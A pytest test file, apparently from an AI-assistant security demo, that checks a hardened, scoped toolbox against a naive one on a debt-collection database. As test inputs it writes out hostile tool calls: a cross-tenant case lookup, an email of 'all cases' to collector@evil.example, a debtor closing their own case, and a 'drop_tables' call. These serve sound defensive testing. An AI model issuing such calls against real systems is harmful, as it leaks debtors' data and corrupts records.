"""The assistant's tools against the real demo database: broad rights (naive) versus scoped (hardened)."""

from __future__ import annotations

import json

import pytest

from bastion.demo.actions import parse_actions
from bastion.demo.assistant import Configuration
from bastion.demo.data import DemoData
from bastion.demo.db import DemoDatabase
from bastion.demo.environment import DemoEnvironment, build_assistant
from bastion.demo.tools import Toolbox, ToolOutcome
from bastion.rag.types import Principal, PrincipalRole
from tests.demo.conftest import ScriptedModel


def _principal(data: DemoData, role: PrincipalRole, tenant_index: int = 0, index: int = 0) -> Principal:
    tenant = data.tenants[tenant_index].tenant_id
    found = [
        c.principal for c in data.credentials if c.principal.tenant_id == tenant and c.principal.role is role
    ]
    return found[index]


def _run(database: DemoDatabase, principal: Principal, hardened: bool, line: str) -> ToolOutcome:
    _, calls = parse_actions(line)
    return Toolbox(database, principal, hardened=hardened).run(calls[0])


@pytest.fixture
def database(environment: DemoEnvironment) -> DemoDatabase:
    _, opened = build_assistant(environment, Configuration.NAIVE, ScriptedModel("ok"))
    return opened


def test_naive_lookup_reaches_another_tenants_case_hardened_does_not(
    database: DemoDatabase, demo_data: DemoData
) -> None:
    me = _principal(demo_data, PrincipalRole.DEBTOR, tenant_index=0)
    foreign = next(c for c in demo_data.cases if c.tenant_id != me.tenant_id)
    line = f'ACTION: lookup_case {{"case_id": "{foreign.case_id}"}}'

    naive = _run(database, me, hardened=False, line=line)
    assert naive.status == "executed"
    assert naive.result["case_id"] == foreign.case_id

    hardened = _run(database, me, hardened=True, line=line)
    assert hardened.status == "denied"
    assert foreign.case_id not in json.dumps(hardened.result)


def test_hardened_lookup_of_the_debtors_own_case_works(database: DemoDatabase, demo_data: DemoData) -> None:
    me = _principal(demo_data, PrincipalRole.DEBTOR)
    own = demo_data.cases_of_debtor(me.subject)[0]
    outcome = _run(database, me, hardened=True, line=f'ACTION: lookup_case {{"case_id": "{own.case_id}"}}')
    assert outcome.status == "executed"
    assert outcome.result["outstanding_eur"] == own.outstanding_cents / 100


def test_hardened_payment_plan_must_respect_the_tenants_limits(
    database: DemoDatabase, demo_data: DemoData
) -> None:
    me = _principal(demo_data, PrincipalRole.DEBTOR)
    case = next(c for c in demo_data.cases_of_debtor(me.subject) if c.status.value != "closed")
    policy = demo_data.tenant(me.tenant_id).policy
    too_small = policy.min_monthly_installment_cents / 100 - 1
    line = (
        f'ACTION: update_payment_plan {{"case_id": "{case.case_id}", "monthly_eur": {too_small}, '
        '"installments": 2}'
    )
    assert _run(database, me, hardened=True, line=line).status == "denied"
    assert _run(database, me, hardened=False, line=line).status == "executed"  # naive takes anything

    monthly = max(policy.min_monthly_installment_cents, -(-case.outstanding_cents // policy.max_installments))
    good = (
        f'ACTION: update_payment_plan {{"case_id": "{case.case_id}", "monthly_eur": {monthly / 100}, '
        f'"installments": {policy.max_installments}}}'
    )
    outcome = _run(database, me, hardened=True, line=good)
    assert outcome.status == "executed"
    plan = database.payment_plan(case.case_id)
    assert plan is not None and plan.monthly_cents == monthly and plan.installments == policy.max_installments
    assert any(e.actor == f"assistant:{me.subject}" for e in database.events(case.case_id))


def test_hardened_email_goes_only_to_the_debtors_address(database: DemoDatabase, demo_data: DemoData) -> None:
    me = _principal(demo_data, PrincipalRole.DEBTOR)
    own_address = demo_data.debtor(me.subject).email
    attacker = (
        'ACTION: send_email {"to": "collector@evil.example", "subject": "case list", "body": "all cases"}'
    )
    assert _run(database, me, hardened=True, line=attacker).status == "denied"
    own = f'ACTION: send_email {{"to": "{own_address}", "subject": "Your plan", "body": "Details attached."}}'
    assert _run(database, me, hardened=True, line=own).status == "executed"
    recipients = [mail.recipient for mail in database.outbox(me.tenant_id)]
    assert recipients == [own_address.lower()]
    assert _run(database, me, hardened=False, line=attacker).status == "executed"


def test_only_agents_close_cases_when_hardened(database: DemoDatabase, demo_data: DemoData) -> None:
    debtor = _principal(demo_data, PrincipalRole.DEBTOR)
    case = next(c for c in demo_data.cases_of_debtor(debtor.subject) if c.status.value != "closed")
    line = f'ACTION: close_case {{"case_id": "{case.case_id}", "reason": "I paid, trust me"}}'
    assert _run(database, debtor, hardened=True, line=line).status == "denied"
    agent = _principal(demo_data, PrincipalRole.AGENT)
    assert _run(database, agent, hardened=True, line=line).status == "executed"
    closed = database.case(case.case_id)
    assert closed is not None and closed.status.value == "closed"
    again = _run(database, agent, hardened=True, line=line)
    assert again.status == "invalid"  # the database refuses to close a closed case; the tool reports it


def test_invalid_calls_are_reported_not_executed(database: DemoDatabase, demo_data: DemoData) -> None:
    me = _principal(demo_data, PrincipalRole.DEBTOR)
    outcome = _run(database, me, hardened=False, line='ACTION: drop_tables {"all": true}')
    assert outcome.status == "invalid"
    assert "unknown tool" in outcome.reason
